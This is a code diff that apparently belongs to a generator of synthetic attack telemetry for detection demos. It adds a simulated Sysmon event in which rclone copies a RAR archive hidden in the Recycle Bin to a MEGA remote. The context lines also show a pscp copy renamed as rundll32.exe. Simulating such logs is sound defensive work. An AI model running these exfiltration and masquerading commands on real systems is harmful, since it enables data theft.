@@ -719,6 +719,19 @@ export function planCampaign(world: DemoWorld, rng: Prng): CampaignPlan {
         destinationHostname: 'content.dropboxapi.com',
       }),
     });
+    const rclone = 'C:\\ProgramData\\rc\\rclone.exe';
+    const t3 = dayAt(0.73, 1);
+    ev.push({
+      host: mxFs,
+      spec: sysmonProcess(mxFs, t3, {
+        image: rclone,
+        commandLine: `${rclone} copy C:\\$Recycle.Bin\\pp.rar mega:bk --config C:\\ProgramData\\rc\\rc.conf -q`,
+        parentImage: cmdExe,
+        parentCommandLine: `"${cmdExe}"`,
+        user: who(mxTech),
+        originalFileName: 'rclone.exe',
+      }),
+    });
     const pscp = 'C:\\ProgramData\\rundll32.exe';
     const t2 = dayAt(0.72, 4);
     ev.push({
